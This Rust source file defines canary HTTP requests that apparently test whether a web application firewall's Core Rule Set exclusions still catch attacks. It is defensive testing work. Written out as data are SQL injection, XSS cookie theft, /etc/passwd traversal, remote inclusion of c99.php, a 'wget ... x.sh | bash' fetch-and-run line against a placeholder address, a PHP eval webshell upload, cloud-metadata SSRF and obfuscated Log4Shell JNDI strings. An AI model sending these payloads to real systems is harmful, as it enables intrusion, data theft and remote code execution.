//! The canaries themselves. Their path, argument and cookie are names that no application uses, so that an
//! exclusion which is limited to a path or a target does not reach them, and one that is not limited does.

/// A request that is tried.
pub(super) struct Canary {
    /// For people.
    pub(super) name: &'static str,
    /// The ids of the rules that are there for it; for an ordinary request, none.
    pub(super) family: (u64, u64),
    /// The major version of the CRS that has them.
    pub(super) since: u8,
    pub(super) method: &'static str,
    /// Where no place names another.
    pub(super) path: &'static str,
    /// The attack is in the path, which no other can replace.
    pub(super) is_in_its_path: bool,
    /// With its `?`, or empty.
    pub(super) query: &'static str,
    /// Beside `Host`, `Accept` and `User-Agent`; a `User-Agent` here takes the place of the ordinary one.
    pub(super) headers: &'static [(&'static str, &'static str)],
    pub(super) body: &'static str,
}

const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("content-type", "application/json");
const MULTIPART: (&str, &str) = ("content-type", "multipart/form-data; boundary=canary7d1f");

/// One rule knows scanners by their name; what they look for is the business of those on files.
const SCANNER: (u64, u64) = (913_000, 930_999);
const PROTOCOL: (u64, u64) = (921_000, 921_999);
const LFI: (u64, u64) = (930_000, 930_999);
const RFI: (u64, u64) = (931_000, 931_999);
const RCE: (u64, u64) = (932_000, 932_999);
const PHP: (u64, u64) = (933_000, 933_999);
const GENERIC: (u64, u64) = (934_000, 934_999);
const XSS: (u64, u64) = (941_000, 941_999);
const SQLI: (u64, u64) = (942_000, 942_999);
const JAVA: (u64, u64) = (944_000, 944_999);

const PATH: &str = "/palisade-canary";

const fn get(name: &'static str, family: (u64, u64), query: &'static str) -> Canary {
    Canary {
        name,
        family,
        since: 3,
        method: "GET",
        path: PATH,
        is_in_its_path: false,
        query,
        headers: &[],
        body: "",
    }
}

const fn post(
    name: &'static str,
    family: (u64, u64),
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
) -> Canary {
    Canary {
        method: "POST",
        headers,
        body,
        ..get(name, family, "")
    }
}

const NONE: (u64, u64) = (0, 0);

/// Every family that has rules at paranoia level 1, in the places where its attacks come. Each is caught by more
/// than one rule and scores 20 at least, so that switching a single rule off everywhere remains possible, and so
/// do thresholds that are somewhat above the usual.
pub(super) const ATTACKS: &[Canary] = &[
    get(
        "SQL injection in a query",
        SQLI,
        "?probe=1%27%20UNION%20SELECT%20username,password%20FROM%20information_schema.tables--%20-",
    ),
    post(
        "SQL injection in a form",
        SQLI,
        &[FORM],
        "probe=1%27+OR+%271%27%3D%271%27%3B+DROP+TABLE+users%3B+SELECT+sleep(10)--+-",
    ),
    post(
        "SQL injection in JSON",
        SQLI,
        &[JSON],
        r#"{"probe":"1' UNION ALL SELECT username,password FROM information_schema.tables; DROP TABLE users-- -"}"#,
    ),
    Canary {
        headers: &[(
            "cookie",
            "palisade_canary=1' UNION SELECT username,password FROM users WHERE 1=1-- -",
        )],
        ..get("SQL injection in a cookie", SQLI, "")
    },
    get(
        "cross-site scripting in a query",
        XSS,
        "?probe=%3Cscript%3Ealert(document.cookie)%3C/script%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    ),
    post(
        "cross-site scripting in JSON",
        XSS,
        &[JSON],
        r#"{"probe":"<script>alert(document.cookie)</script><svg onload=alert(1)>"}"#,
    ),
    get(
        "path traversal in an argument",
        LFI,
        "?probe=../../../../../../etc/passwd",
    ),
    Canary {
        path: "/palisade-canary/..%2f..%2f..%5c..%5c..%2fetc%2fpasswd/.git/config",
        is_in_its_path: true,
        ..get("path traversal in the path", LFI, "")
    },
    get(
        "inclusion of a remote file",
        RFI,
        "?probe=http://203.0.113.9/shell.txt?&file=http://203.0.113.9/c99.php?",
    ),
    get(
        "shell command injection",
        RCE,
        "?probe=%3Bcat%20/etc/passwd%3Bwget%20http://203.0.113.9/x.sh%20-O-%7Cbash",
    ),
    post(
        "PHP code injection",
        PHP,
        &[FORM],
        "probe=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+eval%28base64_decode%28%24x%29%29%3B+%3F%3E",
    ),
    post(
        "upload of a PHP script",
        PHP,
        &[MULTIPART],
        "--canary7d1f\r\nContent-Disposition: form-data; name=\"probe\"; filename=\"shell.php\"\r\n\
         Content-Type: text/plain\r\n\r\nx\r\n--canary7d1f\r\n\
         Content-Disposition: form-data; name=\"canary\"\r\n\r\n<?php eval(base64_decode($_POST['c'])); ?>\r\n\
         --canary7d1f--\r\n",
    ),
    Canary {
        since: 4,
        ..post(
            "server-side request forgery and prototype pollution",
            GENERIC,
            &[JSON],
            r#"{"probe":"http://169.254.169.254/latest/meta-data/iam/","canary":"x.__proto__.polluted=1;require('child_process').exec('id')"}"#,
        )
    },
    get(
        "Java code injection",
        JAVA,
        "?probe=java.lang.Runtime.getRuntime().exec(%22id%22)&canary=new%20java.lang.ProcessBuilder",
    ),
    Canary {
        since: 4,
        headers: &[
            ("user-agent", "${jndi:ldap://203.0.113.9/x}"),
            ("referer", "${jndi:ldap://203.0.113.9/x}"),
            ("x-forwarded-by", "${jndi:${lower:l}dap://203.0.113.9/x}"),
            ("x-palisade-canary", "${${lower:j}ndi:ldap://203.0.113.9/x}"),
        ],
        ..get("Log4Shell in a header", JAVA, "")
    },
    get(
        "response splitting",
        PROTOCOL,
        "?probe=x%0d%0aSet-Cookie:%20admin=1%0d%0aLocation:%20http://203.0.113.9/%0d%0a%0d%0aHTTP/1.1%20200&canary=x%0d%0aSet-Cookie:%20admin=1",
    ),
    Canary {
        headers: &[("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)")],
        path: "/palisade-canary/.env",
        ..get(
            "a scanner that looks for secrets",
            SCANNER,
            "?probe=../../.git/config",
        )
    },
];

/// As plain as requests come; they pass at every paranoia level.
pub(super) const ORDINARY: &[Canary] = &[
    Canary {
        path: "/",
        ..get("a page", NONE, "")
    },
    Canary {
        path: "/search",
        ..get("a query", NONE, "?page=2")
    },
    Canary {
        path: "/login",
        ..post("a form", NONE, &[FORM], "user=alice&remember=yes")
    },
    Canary {
        path: "/items",
        ..post("JSON", NONE, &[JSON], r#"{"name":"lamp","count":3}"#)
    },
    Canary {
        path: "/account/settings",
        headers: &[("cookie", "session=3f2a9c"), ("accept-language", "en")],
        ..get("a visit with a cookie", NONE, "")
    },
];
